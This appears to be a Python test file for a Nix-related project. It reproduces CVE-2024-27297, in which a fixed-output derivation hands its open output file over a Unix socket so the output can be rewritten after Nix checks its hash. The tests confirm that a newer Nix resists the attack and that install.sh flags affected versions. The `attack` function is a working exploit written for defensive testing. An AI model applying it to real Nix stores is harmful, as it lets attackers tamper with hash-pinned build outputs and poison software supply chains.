"""CVE-2024-27297: a fixed-output derivation changes its output after Nix has checked the hash."""

from __future__ import annotations

import hashlib
import os
import secrets
import shutil
import socket
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.evaluation import ROOT, SYSTEM, build, evaluate, fetch, path_of
from tests.skipping import skip

HERE = Path(__file__).parent
GOOD, EVIL = "good", "evil"


def make(package: str) -> Path:
    """Build a package of the set."""
    drv = evaluate(f"(import {path_of(ROOT)}).packages.{SYSTEM}.{package}.drvPath")
    fetch(drv)
    return build(drv)


@pytest.fixture(scope="module")
def builder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A static program that hands its open output on."""
    program = tmp_path_factory.mktemp("smuggle") / "smuggle"
    programs = make("toolchain") / "bin"
    # It calls `as` and `ld` by name, which a machine may lack.
    words = ["-static", "-Wall", "-o", str(program), str(HERE / "smuggle.c")]
    subprocess.run([programs / "gcc", *words], env={"PATH": str(programs)}, check=True)
    return program


def attack(nix: Path, builder: Path, store: Path) -> str:
    """Let a derivation hand its output on, write into that, and return what the store has then."""
    at = ["--store", str(store), "--option", "sandbox-paths", ""]
    # A Nix ends all that its users for builds run: not those of builds in the machine's own store.
    at += ["--option", "build-users-group", ""]
    words = [f"{nix}/nix-store", "--store", str(store), "--add", str(builder)]
    program = subprocess.run(words, check=True, capture_output=True, text=True).stdout.strip()
    name = f"kernel-builder-{secrets.token_hex(8)}"
    text = f"""derivation {{
      name = "pinned"; system = builtins.currentSystem; builder = builtins.storePath "{program}";
      args = [ "{name}" "{GOOD}" ];
      outputHashAlgo = "sha256"; outputHash = "{hashlib.sha256(GOOD.encode()).hexdigest()}";
    }}"""
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(f"\0{name}")
        listening.listen()
        argv = [f"{nix}/nix-build", "--no-out-link", *at, "--option", "sandbox", "true", "-E", text]
        done = subprocess.run(argv, check=False, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        listening.settimeout(1)
        try:
            connection, _ = listening.accept()
        except TimeoutError:
            pass
        else:
            with connection:
                _, files, *_ = socket.recv_fds(connection, 1, 1)
            os.pwrite(files[0], EVIL.encode(), 0)
            os.close(files[0])
    return Path(f"{store}{done.stdout.strip()}").read_text()


@pytest.fixture
def store() -> Iterator[Path]:
    """A folder for a store; newer versions of Nix take none below a folder like /tmp."""
    if os.geteuid() != 0:
        skip("a store of one's own has a sandbox for root alone", installable=False)
    cache = Path.home() / ".cache"
    cache.mkdir(exist_ok=True)
    with tempfile.TemporaryDirectory(dir=cache, prefix="kernel-builder-store-") as folder:
        yield Path(folder)
        # Store paths are read-only, and the folder could not be removed.
        subprocess.run(["chmod", "-R", "u+w", folder], check=True)


@pytest.mark.attack(
    "nix-build",
    "a download rewrites its output after its hash was checked",
    "`newerNix` keeps the checked bytes",
)
def test_the_newer_nix_keeps_what_was_checked(builder: Path, store: Path) -> None:
    assert attack(make("newerNix") / "bin", builder, store) == GOOD


def test_install_sh_knows_which_nix_is_affected(builder: Path, store: Path) -> None:
    """install.sh calls this Nix vulnerable exactly if the attack works."""
    program = shutil.which("nix")
    assert program
    asked = f"source {ROOT}/install.sh; known_hole"
    known = subprocess.run(["bash", "-c", asked], check=False, capture_output=True).stdout
    affected = b"CVE-2024-27297" in known
    assert (attack(Path(program).parent, builder, store) == EVIL) == affected
